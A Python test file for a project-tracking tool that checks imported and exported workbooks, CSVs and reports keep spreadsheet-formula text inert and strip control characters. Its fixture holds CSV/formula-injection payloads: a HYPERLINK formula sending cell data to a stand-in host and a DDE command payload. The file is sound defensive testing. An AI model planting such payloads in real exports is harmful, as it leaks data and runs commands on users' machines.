"""Text that a spreadsheet would execute (= + - @) is stored as text and written back as text in
every export; control characters and over-long strings are cleaned, never a crash."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from projtrack.core.text import MAX_NAME, MAX_TEXT
from projtrack.store.models import Project
from projtrack.store.repo import Store
from tests.trust import annex
from tests.trust.helpers import cli

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"平阳县一小")',
    "town": "@SUM(A1:A9)",
    "unit": "+86-577-12345678",
    "remarks": "-2+3+cmd|' /C calc'!A0",
    "content": "=1+1",
    "nature": "=CHAR(65)",
}


def _formula_annex(path) -> None:
    annex.build([annex.Item(FORMULAS["name"], "3600", {2022: "1800", 2023: "1800"},
                            town=FORMULAS["town"], unit=FORMULAS["unit"],
                            remarks=FORMULAS["remarks"], content=FORMULAS["content"],
                            nature=FORMULAS["nature"], years="2022-2023"),
                 annex.Item("平阳县第二小学新建工程", "100", {2022: "100"}, years="2022-2022")], path)


def test_formula_text_is_stored_and_exported_as_text(tmp_path, capsys):
    book = tmp_path / "附件.xlsx"
    _formula_annex(book)
    db = str(tmp_path / "t.db")
    rc, out, err = cli(capsys, db, "import", str(book), "--county", "平阳县")
    assert rc == 0, out + err
    store = Store.open(db)
    p = next(f for f in store.projects() if f.name == FORMULAS["name"])
    store.close()
    stored = {"name": p.name, "town": p.township, "unit": p.responsible_unit,
              "remarks": p.remarks, "content": p.content, "nature": p.construction_type}
    # as text, exactly — but for the construction type, which must be one of its four words:
    # "=CHAR(65)" is none, so it is left unknown (and the import warns, naming the cell)
    assert stored == {**FORMULAS, "nature": None}
    assert "=CHAR(65)" in out and "unknown_nature" not in out

    rc, out, err = cli(capsys, db, "export")
    rec = next(r for r in json.loads(out)["projects"] if r["name"] == FORMULAS["name"])
    assert (rec["township"], rec["responsible_unit"], rec["construction_type"]) == (
        FORMULAS["town"], FORMULAS["unit"], None)

    rc, out, err = cli(capsys, db, "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    row = next(r for r in rows if r["name"].lstrip("'") == FORMULAS["name"])
    for key, field in (("name", "name"), ("town", "township"), ("unit", "responsible_unit")):
        assert row[field] == "'" + FORMULAS[key], (field, row[field])  # a spreadsheet shows text
    for r in rows:  # no cell of the CSV starts a formula
        assert not any(v[:1] in ("=", "+", "@") for v in r.values() if v), r

    out_xlsx = tmp_path / "out.xlsx"
    rc, out, err = cli(capsys, db, "export", "--format", "xlsx", "--out", str(out_xlsx))
    assert rc == 0, err
    with zipfile.ZipFile(out_xlsx) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(out_xlsx)
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"}
    assert set(FORMULAS.values()) - {FORMULAS["nature"]} <= texts
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value[:1] in "=+-@":
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)

    # the exported annex re-imports with the same text
    db2 = str(tmp_path / "again.db")
    rc, out, err = cli(capsys, db2, "import", str(out_xlsx), "--county", "平阳县")
    assert rc == 0, out + err
    again = Store.open(db2)
    q = next(f for f in again.projects() if f.name == FORMULAS["name"])
    again.close()
    assert (q.township, q.responsible_unit, q.remarks, q.content) == (
        FORMULAS["town"], FORMULAS["unit"], FORMULAS["remarks"], FORMULAS["content"])


def _no_injected_formula(path) -> set[str]:
    """The texts of a written workbook; fails if any injected text became a formula."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                formulas = re.findall(rb"<f[^>]*>([^<]*)</f>", z.read(name))
                for f in formulas:
                    assert not any(w in f.decode() for w in ("HYPERLINK", "CHAR(65)", "cmd|", "A1:A9")), f
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_formula_text_stays_text_in_the_weekly_report_and_the_progress_template(tmp_path, capsys):
    from tests.trust.test_crash import _command_exists, _module_exists

    book = tmp_path / "附件.xlsx"
    _formula_annex(book)
    db = str(tmp_path / "t.db")
    assert cli(capsys, db, "import", str(book), "--county", "平阳县")[0] == 0
    checked = 0
    if _command_exists("report"):
        rc, out, err = cli(capsys, db, "report", "weekly", "--format", "xlsx", "--out",
                           str(tmp_path / "r"), as_of="2023-06-30")
        assert rc == 0, out + err
        texts = set().union(*(_no_injected_formula(p) for p in (tmp_path / "r").glob("*.xlsx")))
        assert FORMULAS["name"] in texts
        checked += 1
    if _command_exists("progress", "template") and _module_exists("projtrack.progress_io"):
        out_path = tmp_path / "return.xlsx"
        rc, out, err = cli(capsys, db, "progress", "template", "--out", str(out_path), as_of="2023-06-30")
        assert rc == 0, out + err
        assert FORMULAS["name"] in _no_injected_formula(out_path)
        checked += 1
    if not checked:
        pytest.skip("neither `report weekly` nor `progress template` exists yet")


def test_control_characters_typed_in_the_cli_are_cleaned(tmp_path, capsys):
    db = str(tmp_path / "t.db")
    store = Store.open(db)
    with store.write() as s:
        s.add(Project(name="平阳县第二小学新建工程"))
    store.close()
    note = "进度款\x07\x1b[31m红字\x1b[0m\u200b\ufeff\x85" + "长" * 5000
    rc, out, err = cli(capsys, db, "spend", "add", "1", "10", "--date", "2024-01-05", "--note", note)
    assert rc == 0, err
    store = Store.open(db)
    stored = store.entries(1)[0].note
    store.close()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\ufeff]", stored), repr(stored[:40])
    assert stored.startswith("进度款[31m红字[0m") and len(stored) <= MAX_TEXT
    rc, out, err = cli(capsys, db, "spend", "list", "1")
    assert rc == 0 and "\x1b" not in out


def test_an_export_never_crashes_on_control_characters_already_stored(tmp_path, capsys):
    """A name stored before cleaning existed (or by another program) still exports: xlsx cells
    cannot hold control characters, so they are dropped there; JSON escapes them."""
    db = str(tmp_path / "t.db")
    store = Store.open(db)
    with store.write() as s:
        s.add(Project(name="平阳县\x07第三小学\x1b新建工程", total_investment=Decimal("1"),
                      remarks="\x00\x08备注"))
    store.close()
    rc, out, err = cli(capsys, db, "export", "--format", "xlsx", "--out", str(tmp_path / "o.xlsx"))
    assert rc == 0, err
    wb = openpyxl.load_workbook(tmp_path / "o.xlsx")
    assert wb["项目"]["B4"].value == "平阳县第三小学新建工程"
    for fmt in ("json", "csv"):
        rc, out, err = cli(capsys, db, "export", "--format", fmt)
        assert rc == 0, err


def test_the_importer_cleans_names_and_cuts_over_long_text(tmp_path, capsys):
    book = tmp_path / "附件.xlsx"
    annex.build([annex.Item("平阳县\u200b第二\ufeff小学新建工程\x85", "100", {2022: "100"},
                            years="2022-2022", remarks="备注\u200b\x85", content="规" * 100_000)],
                book)
    db = str(tmp_path / "t.db")
    rc, out, err = cli(capsys, db, "import", str(book), "--county", "平阳县")
    assert rc == 0, out + err
    store = Store.open(db)
    p = store.projects()[0]
    store.close()
    assert p.name == "平阳县第二小学新建工程" and len(p.name) <= MAX_NAME
    assert p.remarks == "备注"
    assert len(p.content) <= MAX_TEXT


def test_a_very_long_name_does_not_break_anything(tmp_path, capsys):
    book = tmp_path / "附件.xlsx"
    long_name = "平阳县" + "很" * 5000 + "小学新建工程"
    annex.build([annex.Item(long_name, "100", {2022: "100"}, years="2022-2022")], book)
    db = str(tmp_path / "t.db")
    rc, out, err = cli(capsys, db, "import", str(book), "--county", "平阳县")
    assert rc in (0, 1) and "Traceback" not in out + err, out + err
    for fmt in ("json", "csv"):
        rc, out, err = cli(capsys, db, "export", "--format", fmt)
        assert rc == 0, err
